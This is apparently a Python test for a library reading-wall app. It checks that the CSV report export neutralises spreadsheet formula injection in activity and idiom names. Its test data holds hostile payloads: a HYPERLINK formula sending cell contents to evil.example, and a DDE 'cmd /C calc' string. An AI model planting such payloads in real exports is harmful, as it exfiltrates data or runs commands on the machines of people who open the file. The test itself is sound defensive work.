"""CSV formula injection (issue 15, finding 2): titles and idiom names from statements reach /wall/reports.csv
as text a spreadsheet will not run: a cell starting with = + - @ tab or CR gets a leading apostrophe; numbers
stay numbers."""
from __future__ import annotations

import csv
import io

from tests.server.conftest import basic
from tests.server.wall_fixtures import credentials, make_app
from server.wall.routes import wall_services

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]
A = "https://lib.example.org/activities/"


def _statements() -> list[dict]:
    out = []
    for n, text in enumerate(HOSTILE):
        package = f"evil-{n}"
        parent = {"id": A + package, "definition": {"name": {"zh-CN": text, "en-US": text}}}
        context = {"registration": "6fbd600f-d17c-4c74-801a-2ec2e53231c8",
                   "contextActivities": {"parent": [parent]}}
        out.append({"actor": {"account": {"homePage": "https://lib.example.org/", "name": f"s{n}"}},
                    "verb": {"id": "http://adlnet.gov/expapi/verbs/launched"}, "object": parent,
                    "context": {"registration": context["registration"]}, "timestamp": "2026-11-25T08:00:00.000Z"})
        out.append({"actor": {"account": {"homePage": "https://lib.example.org/", "name": f"s{n}"}},
                    "verb": {"id": "http://adlnet.gov/expapi/verbs/answered"},
                    "object": {"id": f"{A}{package}/idiom/{n}", "definition": {"name": {"zh-CN": text}}},
                    "result": {"success": True}, "context": context, "timestamp": "2026-11-25T08:01:00.000Z"})
    return out


def _rows(client, headers, table: str, lang: str) -> list[list[str]]:
    response = client.get(f"/wall/reports.csv?table={table}&start=2026-11-25&end=2026-11-25&lang={lang}",
                          headers=headers)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.data.decode("utf-8")[1:], newline="")))


def test_text_cells_cannot_become_formulas(tmp_path):
    app = make_app(tmp_path)
    client = app.test_client()
    kiosk = {"Authorization": basic(*credentials(app, "kiosk")), "X-Experience-API-Version": "1.0.3"}
    assert client.post("/xapi/statements", json=_statements(), headers=kiosk).status_code == 200
    wall_services(app).job.run()
    staff = {"Authorization": basic(*credentials(app, "admin"))}
    packages = _rows(client, staff, "packages", "en")[1:]
    idioms = _rows(client, staff, "idioms", "zh-CN")[1:]
    assert sorted(row[1] for row in packages) == sorted("'" + text for text in HOSTILE)
    assert sorted(row[0] for row in idioms) == sorted("'" + text for text in HOSTILE)
    for row in packages + idioms:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert all(row[2] == "1" for row in packages) and all(row[1:] == ["1", "0"] for row in idioms)
    app.extensions["yuedu"].engine.dispose()
